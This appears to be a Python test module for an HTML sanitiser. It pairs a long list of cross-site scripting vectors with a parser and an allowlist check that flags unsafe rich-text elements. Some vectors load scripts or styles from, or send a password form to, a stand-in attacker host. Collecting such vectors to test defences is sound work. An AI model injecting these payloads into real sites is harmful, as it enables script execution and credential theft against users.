"""Markup that must never act: one vector per line (A50), and what a parser finds in a page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script
>alert(1)</script
>
<script>alert(1)//
<<SCRIPT>alert(1);//<</SCRIPT>
<script type=module>import('//evil.example')</script>
<script type="importmap">{"imports":{}}</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src='x' onerror='alert(1)'>
<IMG SRC=javascript:alert(1)>
<IMG SRC=`javascript:alert(1)`>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=x:x onerror\x0b=alert(1)>
<img srcset="x 1x" onload=alert(1)>
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)></picture>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>x
<p onclick=alert(1)>x</p>
<p onmouseover="alert(1)">x</p>
<p/onclick=alert(1)>x</p>
<p x=">" onclick=alert(1)>x</p>
<strong onfocus=alert(1) tabindex=1 autofocus>x</strong>
<em onpointerrawupdate=alert(1)>x</em>
<h3 ontoggle=alert(1)>x</h3>
<li onbeforematch=alert(1) hidden=until-found>x</li>
<blockquote onanimationstart=alert(1) style="animation:x">x</blockquote>
<br onclick=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#x6a;avascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x1f;javascript:alert(1)">x</a>
<a href="javascript://example.org/%0aalert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://example.org/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:https://example.org/x">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)!/x">x</a>
<a href="tel:112">x</a>
<a href="ftp://evil.example/">x</a>
<a href="//evil.example/">x</a>
<a href="\\evil.example">x</a>
<a href="/admin/logout/">x</a>
<a href="?q=1">x</a>
<a href="#main">x</a>
<a href="https:evil.example">x</a>
<a href="https://example.org" target=_blank>x</a>
<a href="https://example.org" target="_top" rel=opener>x</a>
<a href="https://example.org" ping="https://evil.example">x</a>
<a href="https://example.org" download>x</a>
<a href="https://example.org" onclick=alert(1)>x</a>
<a href="https://example.org" style="position:fixed;inset:0">x</a>
<a href="https://example.org" referrerpolicy=unsafe-url>x</a>
<a href='https://example.org/"onclick="alert(1)'>x</a>
<a href="https://example.org/><script>alert(1)</script>">x</a>
<a href="mailto:a@example.org?body=<script>alert(1)</script>">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="javascript:alert(1)" href="https://example.org">x</a>
<area href="javascript:alert(1)">
<map name=x><area shape=default href=javascript:alert(1)></map>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><desc><p><style></desc><img src=x onerror=alert(1)></style>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="data:x,alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>
<math><mtext></p><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><img src="</textarea><img src=x onerror=alert(1)>">
<title><a title="</title><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<select><style></select><img src=x onerror=alert(1)></style>
<table><caption><svg><title><style><img src=x onerror=alert(1)></style>
<style>@import'//evil.example/x.css';</style>
<style>body{background:url(//evil.example)}</style>
<link rel=stylesheet href=//evil.example/x.css>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p class="button site-header">x</p>
<p id="main" name="main">x</p>
<a id=document name=cookie href="https://example.org">x</a>
<form id=x><input name=attributes><input name=action></form>
<form action=//evil.example><input name=password type=password><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data=//evil.example/x.swf><param name=x></object>
<embed src="javascript:alert(1)">
<applet code=x archive=//evil.example></applet>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1) autoplay>
<audio src=x onloadstart=alert(1)>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<keygen autofocus onfocus=alert(1)>
<x-y onclick=alert(1) is=x>x</x-y>
<slot onslotchange=alert(1)>x</slot>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY x "y">]>
<p>{{ request.user.password }}{% load i18n %}</p>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
"onmouseover="alert(1)
' autofocus onfocus='alert(1)
`onclick=alert(1)
javascript:alert(1)
'''.strip().split("\n")

ALLOWED = {"p", "h2", "h3", "h4", "ul", "ol", "li", "a", "strong", "em", "blockquote", "br"}
VOID = {"area", "base", "br", "col", "hr", "img", "input", "link", "meta", "source", "wbr"}


class Elements(HTMLParser):
    """The elements of a page: `rich` ones inside rich text, `frame` is everything else."""

    def __init__(self, page):
        super().__init__()
        self.frame, self.rich = [], []
        self._depth = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        (self.rich if self._depth else self.frame).append((tag, attributes))
        if self._depth or "prose" in (attributes.get("class") or "").split():
            self._depth += tag not in VOID

    def handle_endtag(self, tag):
        self._depth -= bool(self._depth) and tag not in VOID


def faults(rich):
    """Elements of a rich text that are not on the list, or carry or lead to what is not."""
    return [(tag, attributes) for tag, attributes in rich if not _is_harmless(tag, attributes)]


def _is_harmless(tag, attributes):
    if tag != "a":
        return tag in ALLOWED and not attributes
    scheme = urlsplit(attributes.get("href", "https:")).scheme
    return (
        attributes.keys() <= {"href", "rel"}
        and attributes["rel"] == "noopener noreferrer"
        and scheme in {"http", "https", "mailto"}
    )
